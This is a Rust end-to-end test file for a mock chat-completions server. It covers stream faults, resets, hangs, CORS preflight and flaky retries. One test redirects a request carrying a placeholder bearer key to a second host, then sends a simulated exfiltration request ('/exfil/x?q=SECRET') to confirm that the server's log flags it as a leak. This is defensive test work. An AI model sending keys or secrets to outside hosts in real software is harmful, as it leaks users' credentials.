//! The scripted server over plain TCP: what a client sees, and what the log says.
#![allow(clippy::disallowed_methods)] // a program of the host

use e2e::bed::wait_for;
use e2e::server::{Origin, Server};
use std::io::{ErrorKind, Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

const SOON: Duration = Duration::from_secs(5);

fn server() -> Server {
    Server::start().expect("loopback has a port")
}

/// Sends a request and leaves the answer to the caller.
fn send(host: &str, method: &str, path: &str, headers: &str, body: &str) -> TcpStream {
    let mut tcp = TcpStream::connect(host).expect("the server listens");
    tcp.set_read_timeout(Some(SOON))
        .expect("a socket takes a timeout");
    let length = body.len();
    let request = format!(
        "{method} {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {length}\r\n{headers}\r\n{body}"
    );
    tcp.write_all(request.as_bytes()).expect("the server reads");
    tcp
}

fn ask(server: &Server, model: &str) -> TcpStream {
    let body = format!(
        "{{\"model\":\"{model}\",\"stream\":true,\"messages\":[{{\"role\":\"user\",\"content\":\"hi\"}}]}}"
    );
    let headers = "Content-Type: application/json\r\nAuthorization: Bearer sk-secret\r\nConnection: close\r\n";
    send(
        &server.host(),
        "POST",
        "/v1/chat/completions",
        headers,
        &body,
    )
}

/// Everything until the end, and how it ended.
fn rest(mut tcp: TcpStream) -> (String, Option<ErrorKind>) {
    let mut bytes = Vec::new();
    let error = tcp.read_to_end(&mut bytes).err().map(|error| error.kind());
    (String::from_utf8_lossy(&bytes).into_owned(), error)
}

/// Whether an HTTP body in chunks has its last one.
fn is_whole(answer: &str) -> bool {
    answer.ends_with("\r\n0\r\n\r\n")
}

#[test]
fn how_answers_end() {
    let server = server();
    for (model, status, whole, error) in [
        ("ok", 200, true, None),
        ("bytewise:n=5", 200, true, None),
        ("random-split", 200, true, None),
        ("eof-clean-mid", 200, true, None),
        ("eof-after-finish", 200, true, None),
        ("cut-mid-chunk", 200, false, None),
        ("cut-mid-utf8", 200, false, None),
        ("short-body", 200, false, None),
        ("cut-rst", 200, false, Some(ErrorKind::ConnectionReset)),
        ("http-429", 429, true, None),
        ("http-418", 418, true, None),
        ("http-502-html", 502, true, None),
        ("no-such-model", 404, true, None),
    ] {
        let (answer, ended) = rest(ask(&server, model));
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status} ")),
            "{model}: {answer}"
        );
        assert_eq!(
            (is_whole(&answer), ended),
            (whole, error),
            "{model}: {answer}"
        );
    }
}

#[test]
fn a_reset_leaves_no_answer() {
    let server = server();
    let tcp = send(
        &server.host(),
        "POST",
        "/fault/reset-on-accept/v1/chat/completions",
        "",
        "{}",
    );
    let (answer, error) = rest(tcp);
    assert_eq!(
        (answer.as_str(), error),
        ("", Some(ErrorKind::ConnectionReset))
    );
}

#[test]
fn an_abort_is_seen_at_once() {
    let server = server();
    let seen_after = |model: &str| {
        let tcp = ask(&server, model);
        let entry = wait_for("the request arrives", SOON, || {
            server.log().asked(model).pop()
        });
        assert!(entry.aborted.is_none(), "{model}");
        std::thread::sleep(Duration::from_millis(50));
        let left = Instant::now();
        drop(tcp);
        let aborted = wait_for("the abort is seen", SOON, || {
            server.log().asked(model)[0].aborted
        });
        aborted.duration_since(left)
    };
    let late = ["drip", "hang-mid", "hang-first-token", "hang-headers"].map(seen_after);
    // Other tests run at the same time and can hold one of them up.
    let (least, most) = (late.iter().min(), late.iter().max());
    assert!(least < Some(&Duration::from_millis(100)), "{late:?}");
    assert!(most < Some(&Duration::from_secs(2)), "{late:?}");
    let (_, _) = rest(ask(&server, "ok"));
    let ok = server.log().asked("ok");
    assert!(ok[0].aborted.is_none() && ok[0].ended.is_some());
    assert_eq!(ok[0].sent_by(Instant::now()), ok[0].text.len());
}

#[test]
fn pages_may_ask_unless_the_fault_says_no() {
    let server = server();
    let asking = "Origin: http://a.example\r\nAccess-Control-Request-Method: POST\r\n\
                  Access-Control-Request-Headers: authorization,content-type\r\nConnection: close\r\n";
    for (path, status, allowed) in [
        (
            "/v1/chat/completions",
            204,
            Some("authorization,content-type"),
        ),
        ("/fault/preflight-403/v1/chat/completions", 403, None),
        (
            "/fault/preflight-no-auth/v1/chat/completions",
            204,
            Some("content-type"),
        ),
    ] {
        let (answer, _) = rest(send(&server.host(), "OPTIONS", path, asking, ""));
        assert!(
            answer.starts_with(&format!("HTTP/1.1 {status} ")),
            "{path}: {answer}"
        );
        let line = answer
            .lines()
            .find_map(|line| line.strip_prefix("access-control-allow-headers: "));
        assert_eq!(line, allowed, "{path}");
    }
    assert!(
        !rest(ask(&server, "no-cors"))
            .0
            .contains("access-control-allow-origin")
    );
    assert!(
        rest(ask(&server, "ok"))
            .0
            .contains("access-control-allow-origin: *")
    );
}

#[test]
fn the_log_tells_where_a_key_went() {
    let server = server();
    let (answer, _) = rest(ask(&server, "redirect-cross"));
    assert!(
        answer.contains(&format!("location: http://{}/", server.other_host())),
        "{answer}"
    );
    assert!(server.log().asked("redirect-cross")[0].carries("sk-secret"));
    assert!(server.log().leaks().is_empty());
    rest(send(
        &server.other_host(),
        "GET",
        "/exfil/x?q=SECRET",
        "Connection: close\r\n",
        "",
    ));
    let leaks = server.log().leaks();
    assert_eq!(leaks.len(), 1);
    assert_eq!(
        (leaks[0].origin, leaks[0].path.as_str()),
        (Origin::Other, "/exfil/x?q=SECRET")
    );
}

#[test]
fn flaky_works_in_the_end() {
    let server = server();
    let status = |model: &str| {
        rest(ask(&server, model))
            .0
            .split(' ')
            .nth(1)
            .map(str::to_owned)
    };
    for (model, expected) in [
        ("flaky:n=2", "503"),
        ("flaky:n=2", "503"),
        ("flaky:n=2", "200"),
        ("flaky:n=1,id=2", "503"),
    ] {
        assert_eq!(status(model).as_deref(), Some(expected), "{model}");
    }
    assert_eq!(server.log().asked("flaky:n=2").len(), 3);
}
